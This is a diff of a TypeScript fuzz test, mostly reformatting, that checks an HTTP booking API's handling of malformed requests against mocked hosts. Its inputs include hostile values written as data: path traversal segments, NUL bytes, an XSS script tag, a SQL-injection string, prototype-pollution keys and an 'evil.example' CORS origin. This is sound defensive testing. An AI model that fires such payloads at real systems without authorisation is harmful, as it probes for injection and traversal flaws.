-        t.trip.trip_id, t.sibling.trip_id, t.foreign.trip_id, t.trip.search_id, t.sibling.search_id, t.foreign.search_id,
-        t.items.ticket, t.items.seat, t.items.bag, t.foreign.ticket_item_id, t.subscriptionId, t.trip.tickets[0]!.ticket_id, t.products.bag,
+        t.trip.trip_id,
+        t.sibling.trip_id,
+        t.foreign.trip_id,
+        t.trip.search_id,
+        t.sibling.search_id,
+        t.foreign.search_id,
+        t.items.ticket,
+        t.items.seat,
+        t.items.bag,
+        t.foreign.ticket_item_id,
+        t.subscriptionId,
+        t.trip.tickets[0]!.ticket_id,
+        t.products.bag,
       ].filter((id) => id !== base.params[name])
       const real = base.params[name]!
-      const values = [...PATH_EXTRAS, ...others, real.toUpperCase(), `${real} `, `${real}\u0000`, `${real}/`, `${real}%`, `${real}/../${real}`]
+      const values = [
+        ...PATH_EXTRAS,
+        ...others,
+        real.toUpperCase(),
+        `${real} `,
+        `${real}\u0000`,
+        `${real}/`,
+        `${real}%`,
+        `${real}/../${real}`,
+      ]
       for (const value of values) {
         let path: string
         try {
@@ -547,7 +889,12 @@ function casesFor(t: Target, otherApiKey: string, now: Date): Case[] {
         }
         add(op, `:${name} = ${show(value)}`, request(base, { path }))
       }
-      for (const seg of RAW_SEGMENTS) add(op, `:${name} raw ${show(seg)}`, request(base, { path: pathOf(op, { ...base.params, [name]: seg }, new Set([name])) }))
+      for (const seg of RAW_SEGMENTS)
+        add(
+          op,
+          `:${name} raw ${show(seg)}`,
+          request(base, { path: pathOf(op, { ...base.params, [name]: seg }, new Set([name])) }),
+        )
     }
 
     // The query string.
@@ -555,33 +902,70 @@ function casesFor(t: Target, otherApiKey: string, now: Date): Case[] {
     if (op.query) {
       // Each parameter the operation declares, alone, with what each kind of parameter is given wrong.
       for (const name of Object.keys((op.query as { properties?: object }).properties ?? {})) {
-        for (const v of name === 'product_types' ? PRODUCT_TYPES : QUERY_VALUES) add(op, `${name}=${show(v)}`, request(base, { query: `?${name}=${v}` }))
+        for (const v of name === 'product_types' ? PRODUCT_TYPES : QUERY_VALUES)
+          add(op, `${name}=${show(v)}`, request(base, { query: `?${name}=${v}` }))
       }
     }
 
     // Credentials.
-    for (const [label, value] of credentials(t, otherApiKey)) add(op, `auth: ${label}`, request(base, { headers: { authorization: value } }))
+    for (const [label, value] of credentials(t, otherApiKey))
+      add(op, `auth: ${label}`, request(base, { headers: { authorization: value } }))
 
     // The other headers.
     const headers: Array<[string, string]> = [
       // An id too short, too long, with markup, acceptable (echoed), with a NUL (fetch will not send it).
-      ...['short', 'x'.repeat(200), '<script>alert(1)</script>', 'req-fuzz-0001', 'a\u0000b'].map((v): [string, string] => ['x-request-id', v]),
+      ...['short', 'x'.repeat(200), '<script>alert(1)</script>', 'req-fuzz-0001', 'a\u0000b'].map(
+        (v): [string, string] => ['x-request-id', v],
+      ),
       // Refusals compressed too (problemViolations reads them decompressed).
       ...['br', 'gzip', 'x'.repeat(1_000)].map((v): [string, string] => ['accept-encoding', v]),
       ['accept', 'application/xml'],
       ...['https://evil.example', SHOP_ORIGIN, 'http://[::1'].map((v): [string, string] => ['origin', v]),
     ]
     if (op.method === 'GET') {
-      for (const v of ['*', 'W/"x"', '"'.repeat(1_000), 'x'.repeat(10_000), t.basketEtag, t.searchEtag, `${t.basketEtag}, *`]) headers.push(['if-none-match', v])
+      for (const v of [
+        '*',
+        'W/"x"',
+        '"'.repeat(1_000),
+        'x'.repeat(10_000),
+        t.basketEtag,
+        t.searchEtag,
+        `${t.basketEtag}, *`,
+      ])
+        headers.push(['if-none-match', v])
     }
     if (op.idempotent) {
-      for (const v of ['', ' ', 'é', 'k'.repeat(255), 'k'.repeat(256), 'a b', '\t', '__proto__', 'constructor', "' OR 1=1 --", 'fuzz-key-1']) headers.push(['idempotency-key', v])
+      for (const v of [
+        '',
+        ' ',
+        'é',
+        'k'.repeat(255),
+        'k'.repeat(256),
+        'a b',
+        '\t',
+        '__proto__',
+        'constructor',
+        "' OR 1=1 --",
+        'fuzz-key-1',
+      ])
+        headers.push(['idempotency-key', v])
     }
-    for (const [name, value] of headers) add(op, `header ${name}: ${show(value)}`, request(base, { headers: { [name]: value } }))
+    for (const [name, value] of headers)
+      add(op, `header ${name}: ${show(value)}`, request(base, { headers: { [name]: value } }))
     // A browser's call: the access token with an Origin, allowed or not, well-formed or not (the API key is refused with any).
     if (op.auth !== 'public') {
-      for (const origin of ['https://evil.example', SHOP_ORIGIN, 'HTTPS://SHOP.EXAMPLE:443', 'http://[::1', 'x'.repeat(5_000)]) {
-        add(op, `access token from origin ${show(origin)}`, request(base, { headers: { authorization: bearerAuth(t.trip.access_token), origin } }))
+      for (const origin of [
+        'https://evil.example',
+        SHOP_ORIGIN,
+        'HTTPS://SHOP.EXAMPLE:443',
+        'http://[::1',
+        'x'.repeat(5_000),
+      ]) {
+        add(
+          op,
+          `access token from origin ${show(origin)}`,
+          request(base, { headers: { authorization: bearerAuth(t.trip.access_token), origin } }),
+        )
       }
     }
 
@@ -589,10 +973,28 @@ function casesFor(t: Target, otherApiKey: string, now: Date): Case[] {
     const path = pathOf(op, base.params)
     if (!seenPaths.has(op.path)) {
       seenPaths.add(op.path)
-      const own = new Set(operations.filter((o) => o.path === op.path).flatMap((o) => (o.method === 'GET' ? ['GET', 'HEAD'] : [o.method])))
-      for (const method of METHODS.filter((m) => !own.has(m))) add(op, `method ${method}`, request(base, { method, path }))
+      const own = new Set(
+        operations
+          .filter((o) => o.path === op.path)
+          .flatMap((o) => (o.method === 'GET' ? ['GET', 'HEAD'] : [o.method])),
+      )
+      for (const method of METHODS.filter((m) => !own.has(m)))
+        add(op, `method ${method}`, request(base, { method, path }))
       for (const origin of ['https://evil.example', SHOP_ORIGIN]) {
-        add(op, `preflight from ${origin}`, request(base, { method: 'OPTIONS', path, body: null, headers: { origin, 'access-control-request-method': op.method, 'access-control-request-headers': 'authorization, content-type' } }))
+        add(
+          op,
+          `preflight from ${origin}`,
+          request(base, {
+            method: 'OPTIONS',
+            path,
+            body: null,
+            headers: {
+              origin,
+              'access-control-request-method': op.method,
+              'access-control-request-headers': 'authorization, content-type',
+            },
+          }),
+        )
       }
     }
   }
@@ -612,7 +1014,8 @@ function operationOf(req: Req): Operation | undefined {
   } catch {
     return undefined
   }
-  const routed = (path: string) => routes.filter((r) => r.op.method === req.method && r.pattern.test(path)).map((r) => r.op)
+  const routed = (path: string) =>
+    routes.filter((r) => r.op.method === req.method && r.pattern.test(path)).map((r) => r.op)
   const [sent, normal] = [routed(req.url.split('?')[0]!), routed(resolved)]
   return sent.length === 1 && normal.length === 1 && sent[0] === normal[0] ? sent[0] : undefined
 }
@@ -649,7 +1052,14 @@ before(() => msw.listen({ onUnhandledRequest: 'error' }))
 after(() => msw.close())
 const { serverHost, sandboxHost } = hostsUnderTest(msw, SANDBOX_ORIGIN)
 
-interface Failure { what: string; method: string; url: string; status: number | string; why: string; body: string }
+interface Failure {
+  what: string
+  method: string
+  url: string
+  status: number | string
+  why: string
+  body: string
+}
 
 const excerpt = (res: Res) => {
   try {
@@ -665,7 +1075,16 @@ async function fuzz(host: HostUnderTest) {
   const writes = watchWrites(host.store)
   // The store every case meets: after each case that wrote, the store is put back to it.
   const baseline: MemorySnapshot = host.store.snapshot()
-  const counts = { cases: cases.length, tried: 0, succeeded: 0, '5xx': 0, violations: 0, changes: 0, skipped: 0, threw: 0 }
+  const counts = {
+    cases: cases.length,
+    tried: 0,
+    succeeded: 0,
+    '5xx': 0,
+    violations: 0,
+    changes: 0,
+    skipped: 0,
+    threw: 0,
+  }
   const failures: Failure[] = []
   /** Per operation id, each `<status> <code>` it refused with, and the first case that provoked it. */
   const refusals = new Map<string, Map<string, string>>()
@@ -673,7 +1092,14 @@ async function fuzz(host: HostUnderTest) {
 
   for (const { what, req, valid } of cases) {
     const fail = (status: number | string, why: string, body = '') =>
-      failures.push({ what, method: req.method, url: req.url.length > 160 ? `${req.url.slice(0, 160)}…(${req.url.length})` : req.url, status, why, body })
+      failures.push({
+        what,
+        method: req.method,
+        url: req.url.length > 160 ? `${req.url.slice(0, 160)}…(${req.url.length})` : req.url,
+        status,
+        why,
+        body,
+      })
     const before = writes.count
     let res: Res | null = null
     try {
@@ -723,19 +1149,33 @@ async function fuzz(host: HostUnderTest) {
       assert.deepStrictEqual(host.store.snapshot(), baseline)
     } catch (e) {
       counts.changes++
-      fail(res?.status ?? 'none', `a refused request changed the store: ${String((e as Error).message).slice(0, 600)}`, res ? excerpt(res) : '')
+      fail(
+        res?.status ?? 'none',
+        `a refused request changed the store: ${String((e as Error).message).slice(0, 600)}`,
+        res ? excerpt(res) : '',
+      )
       host.store.restore(baseline)
     }
   }
 
   // A query string or body that reached a prototype would show here, in this very process.
   const probe = {} as Record<string, unknown>
-  if (probe.polluted !== undefined) failures.push({ what: 'after the run', method: '-', url: '-', status: '-', why: 'Object.prototype was polluted', body: String(probe.polluted) })
+  if (probe.polluted !== undefined)
+    failures.push({
+      what: 'after the run',
+      method: '-',
+      url: '-',
+      status: '-',
+      why: 'Object.prototype was polluted',
+      body: String(probe.polluted),
+    })
 
   const seconds = ((performance.now() - started) / 1000).toFixed(1)
-  console.log(`[fuzz] ${host.name}: ${counts.tried} requests tried, ${counts['5xx']} 5xx, ${counts.violations} problem violations, ` +
-    `${counts.changes} state changes, ${counts.skipped} skipped (${counts.cases} cases over ${operations.length} operations, ` +
-    `${counts.succeeded} answered < 400, ${counts.threw} threw, ${seconds} s)`)
+  console.log(
+    `[fuzz] ${host.name}: ${counts.tried} requests tried, ${counts['5xx']} 5xx, ${counts.violations} problem violations, ` +
+      `${counts.changes} state changes, ${counts.skipped} skipped (${counts.cases} cases over ${operations.length} operations, ` +
+      `${counts.succeeded} answered < 400, ${counts.threw} threw, ${seconds} s)`,
+  )
   return { counts, failures, refusals }
 }
 
@@ -753,16 +1193,32 @@ for (const make of [serverHost, sandboxHost]) {
     try {
       const { counts, failures, refusals } = await fuzz(host)
       assert.ok(counts.tried > 3_000, `only ${counts.tried} requests were tried`)
-      const shown = failures.slice(0, 20).map((f, i) =>
-        `${i + 1}. [${f.what}] ${f.method} ${f.url} → ${f.status}: ${f.why}${f.body ? `\n     ${f.body.replace(/\s+/g, ' ')}` : ''}`)
-      assert.equal(failures.length, 0, `${failures.length} failures on the ${host.name}, the first ${shown.length}:\n${shown.join('\n')}`)
+      const shown = failures
+        .slice(0, 20)
+        .map(
+          (f, i) =>
+            `${i + 1}. [${f.what}] ${f.method} ${f.url} → ${f.status}: ${f.why}${f.body ? `\n     ${f.body.replace(/\s+/g, ' ')}` : ''}`,
+        )
+      assert.equal(
+        failures.length,
+        0,
+        `${failures.length} failures on the ${host.name}, the first ${shown.length}:\n${shown.join('\n')}`,
+      )
 
       // The refusals were told apart by operation (every operation that takes credentials refused a case without them).
-      for (const op of operations.filter((o) => o.auth !== 'public')) assert.ok(refusals.get(op.id)?.has('401 unauthorized'), `${op.id}: no refusal was counted for it`)
+      for (const op of operations.filter((o) => o.auth !== 'public'))
+        assert.ok(refusals.get(op.id)?.has('401 unauthorized'), `${op.id}: no refusal was counted for it`)
       const documented = await (declared ??= declaredProblems())
-      const undeclared = [...refusals].flatMap(([id, seen]) => [...seen].filter(([answer]) => !documented.get(id)?.has(answer))
-        .map(([answer, what]) => `${id} answered ${answer}, first to [${what}]`))
-      assert.deepEqual(undeclared, [], `refusals the OpenAPI document does not declare for their operation (core/api/operations.ts \`errors\`, core/api/dispatch.ts problemCodes):\n${undeclared.join('\n')}`)
+      const undeclared = [...refusals].flatMap(([id, seen]) =>
+        [...seen]
+          .filter(([answer]) => !documented.get(id)?.has(answer))
+          .map(([answer, what]) => `${id} answered ${answer}, first to [${what}]`),
+      )
+      assert.deepEqual(
+        undeclared,
+        [],
+        `refusals the OpenAPI document does not declare for their operation (core/api/operations.ts \`errors\`, core/api/dispatch.ts problemCodes):\n${undeclared.join('\n')}`,
+      )
     } finally {
       await host.close()
     }
